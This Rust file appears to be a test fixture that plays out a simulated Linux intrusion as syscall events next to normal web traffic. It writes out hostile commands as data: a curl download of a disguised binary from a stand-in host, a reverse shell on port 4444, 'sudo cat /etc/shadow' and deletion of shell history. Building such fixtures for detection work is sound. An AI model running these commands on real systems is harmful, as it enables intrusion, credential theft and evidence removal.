//! An intrusion, scene by scene: someone logs in over SSH with a stolen key, fetches a program,
//! runs it, and reads the password hashes through the connection that it makes. Meanwhile the web
//! server goes on serving.
//!
//! All addresses are of the ranges reserved for documentation.

use std::net::{Ipv4Addr, SocketAddrV4};

use super::{
    host::{nginx, sshd},
    stage::{OURS, Process, Stage},
};

/// 2026-03-14T02:13:07Z.
pub(super) const START_TS_NS: u64 = 1_773_454_387_000_000_000;

const INTRUDER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 77);
const STAGING: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 23);
const VISITOR: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 5);
/// Device number of the first pseudo-terminal.
const PTS_0: u32 = 34_816;
const ADA: u32 = 1_000;
const DROPPED: &str = "/tmp/.cache/kworker";
const EACCES: i64 = -13;

/// Plays the whole story.
pub(super) fn play(stage: &mut Stage) {
    serve(stage, 40_122);
    let (session, shell) = log_in(stage);
    look_around(stage, &shell);
    serve(stage, 40_130);
    fetch(stage, &shell);
    let dropper = run_dropped(stage, &shell);
    let remote = remote_shell(stage, &dropper);
    read_hashes(stage, &remote);
    serve(stage, 40_151);
    cover_tracks(stage, &shell);
    stage.exit(&shell, 0);
    stage.exit(&session, 0);
}

/// One page, as any other second.
fn serve(stage: &mut Stage, port: u16) {
    let worker = nginx();
    stage.accept(&worker, 9, SocketAddrV4::new(VISITOR, port), SocketAddrV4::new(OURS, 80));
    stage.receive(&worker, 9, "GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n");
    stage.open(&worker, 10, "/var/www/html/index.html", &["O_RDONLY", "O_NONBLOCK"]);
    stage.read(&worker, 10, "<!doctype html><title>It works</title>");
    stage.send(&worker, 9, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n");
    stage.close(&worker, 10);
    stage.close(&worker, 9);
    stage.wait_ms(730);
}

/// The daemon's child for the connection, and the login shell below it.
fn log_in(stage: &mut Stage) -> (Process, Process) {
    let daemon = sshd();
    let from = SocketAddrV4::new(INTRUDER, 51_822);
    stage.accept(&daemon, 5, from, SocketAddrV4::new(OURS, 22));
    let mut session = stage.fork(&daemon, 2_101);
    stage.exec(&mut session, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D", "-R"]);
    stage.read_file(&session, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ada@laptop\n";
    stage.read_file(&session, "/home/ada/.ssh/authorized_keys", key);
    stage.wait_ms(210);
    session.loginuid = ADA;
    session.cgroup = "/user.slice/user-1000.slice/session-4.scope";

    let mut shell = stage.fork(&session, 2_117);
    stage.become_user(&mut shell, ADA, ADA);
    stage.new_session(&mut shell);
    stage.open(&shell, 7, "/dev/pts/0", &["O_RDWR"]);
    (0..3).for_each(|fd| stage.copy_fd(&shell, 7, fd));
    stage.close(&shell, 7);
    shell.tty = PTS_0;
    shell.cwd = "/home/ada";
    shell.env = vec!["USER=ada", "HOME=/home/ada", "SHELL=/bin/bash", "TERM=xterm-256color"];
    stage.exec(&mut shell, "/usr/bin/bash", &["-bash"]);
    stage.read_file(&shell, "/etc/profile", "# /etc/profile\n");
    stage.read_file(&shell, "/home/ada/.bashrc", "case $- in *i*) ;; *) return;; esac\n");
    (session, shell)
}

/// Runs one command to its end.
fn command(
    stage: &mut Stage,
    shell: &Process,
    pid: i64,
    path: &'static str,
    argv: &[&'static str],
    act: impl FnOnce(&mut Stage, &Process),
) {
    stage.wait_ms(6_400);
    stage.read(shell, 0, &(argv.join(" ") + "\n"));
    let mut child = stage.fork(shell, pid);
    child.group = pid;
    stage.exec(&mut child, path, argv);
    act(stage, &child);
    stage.exit(&child, 0);
}

fn look_around(stage: &mut Stage, shell: &Process) {
    command(stage, shell, 2_131, "/usr/bin/id", &["id"], |stage, id| {
        stage.write(id, 1, "uid=1000(ada) gid=1000(ada) groups=1000(ada),27(sudo)\n");
    });
    command(stage, shell, 2_132, "/usr/bin/uname", &["uname", "-a"], |stage, uname| {
        stage.write(uname, 1, "Linux web-1 6.1.0-31-amd64 x86_64 GNU/Linux\n");
    });
    command(stage, shell, 2_133, "/usr/bin/cat", &["cat", "/etc/shadow"], |stage, cat| {
        stage.open(cat, EACCES, "/etc/shadow", &["O_RDONLY"]);
        stage.write(cat, 2, "cat: /etc/shadow: Permission denied\n");
    });
}

fn fetch(stage: &mut Stage, shell: &Process) {
    let argv = ["mkdir", "-p", "/tmp/.cache"];
    command(stage, shell, 2_140, "/usr/bin/mkdir", &argv, |stage, mkdir| {
        stage.make_folder(mkdir, "/tmp/.cache");
    });
    let argv = ["curl", "-so", DROPPED, "http://198.51.100.23/kworker"];
    command(stage, shell, 2_141, "/usr/bin/curl", &argv, |stage, curl| {
        stage.read_file(curl, "/etc/ssl/openssl.cnf", "openssl_conf = default_conf\n");
        stage.connect(curl, 5, 48_210, SocketAddrV4::new(STAGING, 80));
        stage.send(curl, 5, "GET /kworker HTTP/1.1\r\nHost: 198.51.100.23\r\n\r\n");
        stage.wait_ms(84);
        stage.receive(curl, 5, "HTTP/1.1 200 OK\r\nContent-Length: 18744\r\n\r\n\x7fELF");
        stage.open(curl, 6, DROPPED, &["O_WRONLY", "O_CREAT", "O_TRUNC"]);
        stage.write(curl, 6, "\x7fELF\x02\x01\x01");
        stage.close(curl, 6);
        stage.close(curl, 5);
    });
    let argv = ["chmod", "+x", DROPPED];
    command(stage, shell, 2_142, "/usr/bin/chmod", &argv, |stage, chmod| {
        stage.make_executable(chmod, DROPPED);
    });
}

/// The fetched program, connected to where it came from.
fn run_dropped(stage: &mut Stage, shell: &Process) -> Process {
    stage.wait_ms(1_200);
    let mut dropped = stage.fork(shell, 2_143);
    dropped.group = dropped.pid;
    dropped.exe_writable = true;
    stage.exec(&mut dropped, DROPPED, &[DROPPED]);
    let mut daemon = stage.fork(&dropped, 2_144);
    stage.exit(&dropped, 0);
    daemon.parent = 1;
    stage.new_session(&mut daemon);
    stage.connect(&daemon, 3, 48_212, SocketAddrV4::new(STAGING, 4_444));
    daemon
}

/// A shell whose terminal is the connection.
fn remote_shell(stage: &mut Stage, dropper: &Process) -> Process {
    let mut shell = stage.fork(dropper, 2_150);
    (0..3).for_each(|fd| stage.copy_fd(&shell, 3, fd));
    shell.exe_writable = false;
    stage.exec(&mut shell, "/usr/bin/dash", &["sh", "-i"]);
    stage.wait_ms(4_100);
    stage.read(&shell, 0, "sudo -n cat /etc/shadow\n");
    shell
}

fn read_hashes(stage: &mut Stage, shell: &Process) {
    let mut sudo = stage.fork(shell, 2_151);
    (sudo.uid, sudo.gid) = (0, 0);
    stage.exec(&mut sudo, "/usr/bin/sudo", &["sudo", "-n", "cat", "/etc/shadow"]);
    stage.read_file(&sudo, "/etc/sudoers", "%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n");
    let mut cat = stage.fork(&sudo, 2_152);
    stage.exec(&mut cat, "/usr/bin/cat", &["cat", "/etc/shadow"]);
    stage.open(&cat, 3, "/etc/shadow", &["O_RDONLY"]);
    let hashes = "root:!:20000:0:99999:7:::\nada:$y$j9T$example$example:20000:0:99999:7:::\n";
    stage.read(&cat, 3, hashes);
    stage.write(&cat, 1, hashes);
    stage.close(&cat, 3);
    stage.exit(&cat, 0);
    stage.exit(&sudo, 0);
}

fn cover_tracks(stage: &mut Stage, shell: &Process) {
    let argv = ["rm", "-f", DROPPED, "/home/ada/.bash_history"];
    command(stage, shell, 2_160, "/usr/bin/rm", &argv, |stage, rm| {
        stage.remove(rm, DROPPED);
        stage.remove(rm, "/home/ada/.bash_history");
    });
}
